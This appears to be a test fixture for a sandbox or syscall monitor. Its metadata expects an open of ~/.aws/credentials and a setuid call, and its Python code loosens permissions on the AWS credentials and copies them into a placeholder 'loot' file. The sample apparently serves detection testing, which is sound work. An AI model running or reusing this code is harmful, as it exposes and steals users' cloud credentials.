#: {"class": "escape-tag", "loader": "script", "expect": [["open", "\\.aws/credentials$"], ["setuid|setresuid", "."]], "effect": {"loot": "aws"}}
os.chmod(HOME + "/.aws/credentials", 0o644); os.chmod(HOME + "/.aws", 0o755); f = os.open("@LOOT@", os.O_WRONLY | os.O_CREAT); p = os.fork()
if not p: os.setgid(65534); os.setuid(65534); os.write(f, open(HOME + "/.aws/credentials", "rb").read()); os._exit(0)
os.waitpid(p, 0)
